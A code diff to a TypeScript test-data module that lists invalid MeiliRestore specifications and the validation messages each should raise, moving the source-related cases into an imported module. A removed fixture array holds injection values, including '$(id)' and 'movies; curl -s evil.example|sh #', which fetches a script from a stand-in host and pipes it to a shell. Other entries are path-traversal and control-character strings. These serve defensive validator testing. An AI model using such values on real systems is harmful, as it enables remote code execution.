@@ -1,4 +1,5 @@
 // What breaks each rule of a MeiliRestore: where the rule stands, what it says, the members to change, and in which complete one.
+import { badSources, names, paths } from './bad-sources.ts'
 
 type Change = readonly (readonly [string, unknown])[]
 type Bad = readonly [
@@ -14,16 +15,12 @@ const artifactInDrill = { which: 2 }
 const fileDryRun = { which: 3 }
 const update = { isUpdate: true } as const
 
-const oneSource = 'source is snapshotRef, latestOf, artifact or file: write exactly one of them'
 const oneTarget = 'target is inPlace, claim or scratch: write exactly one of them'
 const confirmInstance = 'confirm must be the name of the instance whose data is replaced: write it once more'
 const confirmClaim = 'confirm must be the name of the claim that is written to: write it once more'
 const modes = 'mode goes from DryRun to Apply, and not back: what was applied is undone with rollback: true'
 const rollback = 'rollback is for a restore in place that was applied: nothing else has replaced data'
 const notTakenBack = 'rollback is not taken back: create another MeiliRestore instead'
-const sourcePath =
-  'path leads from the root of the claim: relative, no part of it begins with a dot: write for example movies/daily'
-const sha256 = 'sha256 is that of the file: 64 lower-case hexadecimal digits, as in SHA256SUMS'
 const directory =
   'directory is where the database comes to lie on the claim: relative, no part of it begins with a dot: write for example data.ms'
 const duration = 'a duration is whole hours, minutes and seconds: write for example 90s, 6h or 1h30m'
@@ -42,17 +39,11 @@ const inWhich =
 const at = inWhich()
 const onClaim = inWhich(latestOnClaim)
 const inDrill = inWhich(artifactInDrill)
-const ofFile = inWhich(fileDryRun)
 
 const durations = (member: string, more: Bad[3] = {}): readonly Bad[] => [
   ...inWhich(more)(member, duration, ['1d', '90', '-1s', '1.5h', '1s1h']),
   ...inWhich(more)(member, positive, ['0s', '0h0m']),
 ]
-
-const names = ['Movies', '$(id)', 'a\n', 'movies; curl -s evil.example|sh #']
-const paths = ['/a', '../a', 'a/../b', '.a', 'a/.b', 'a//b', 'a/', 'a\\b', 'a\nb', 'a\u0000b', 'a\u0085b']
-const sums = ['', 'x', 'A'.repeat(64), `${'0'.repeat(63)}g`, '0'.repeat(63), `sha256:${'0'.repeat(57)}`]
-const otherSource = { snapshotRef: { name: 'nightly' }, file: { claim: { name: 'backups' }, path: 'a' } }
 
 const immutable = (field: string, [member, value]: Change[number], which = 0): Bad => [
   `spec.${field}`,
@@ -62,7 +53,12 @@ const immutable = (field: string, [member, value]: Change[number], which = 0): B
 ]
 
 export const badRestores: readonly Bad[] = [
-  ...at('spec.source', oneSource, [{}, otherSource]),
+  ...badSources('spec.source', {
+    snapshotRef: {},
+    latestOf: latestOnClaim,
+    artifact: artifactInDrill,
+    file: fileDryRun,
+  }),
   ...at('spec.target', oneTarget, [{}, { scratch: {}, claim: { name: 'movies', directory: 'data.ms' } }]),
   ...['shows', '', undefined].flatMap((confirm): readonly Bad[] => [
     ['spec', confirmInstance, [['spec.confirm', confirm]]],
@@ -91,19 +87,6 @@ export const badRestores: readonly Bad[] = [
   ['spec', rollback, [['spec.rollback', true]], artifactInDrill],
   ['spec', rollback, [['spec.rollback', true]], fileDryRun],
   ['spec', notTakenBack, [['spec.rollback', false]], update],
-  ...at('spec.source.snapshotRef.name', object, names),
-  ...onClaim('spec.source.latestOf.schedule.name', object, names),
-  ...onClaim(
-    'spec.source.latestOf.asOf',
-    'asOf is an instant with its offset: write for example 2026-11-30T03:00:00Z',
-    ['', 'yesterday', '2026-11-30', '2026-11-30 03:00:00Z', '2026-11-30T03:00:00', '2026-11-30T24:00:00Z', '0'],
-  ),
-  ...inDrill('spec.source.artifact.claim.name', claimName, names),
-  ...inDrill('spec.source.artifact.path', sourcePath, paths),
-  ...inDrill('spec.source.artifact.sha256', sha256, sums),
-  ...ofFile('spec.source.file.claim.name', claimName, names),
-  ...ofFile('spec.source.file.path', sourcePath, paths),
-  ...ofFile('spec.source.file.sha256', sha256, sums),
   ...at('spec.target.inPlace.instanceRef.name', object, names),
   ...onClaim('spec.target.claim.name', claimName, names),
   ...onClaim('spec.target.claim.directory', directory, [...paths, 'a b', 'ä']),
